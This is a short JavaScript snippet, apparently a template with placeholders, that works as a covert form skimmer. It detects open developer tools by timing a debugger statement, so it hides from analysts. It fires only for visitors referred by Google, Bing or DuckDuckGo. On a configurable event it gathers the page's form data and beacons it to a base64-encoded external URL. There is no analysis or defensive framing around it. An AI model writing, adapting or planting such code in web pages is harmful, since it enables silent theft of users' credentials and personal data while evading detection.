(function () {
  var open = false;
  setInterval(function () { var t = performance.now(); debugger; open = performance.now() - t > 100; }, %MS%);
  var from = document.referrer.split('/')[2] || '';
  if (['www.google.com', 'www.bing.com', 'duckduckgo.com'].indexOf(from) < 0) return;
  document.addEventListener('%EVENT%', function (e) {
    if (open) return;
    var d = new FormData(e.target.form || document.forms[0]);
    navigator.sendBeacon(atob('%URL64%'), d);
  }, true);
})();
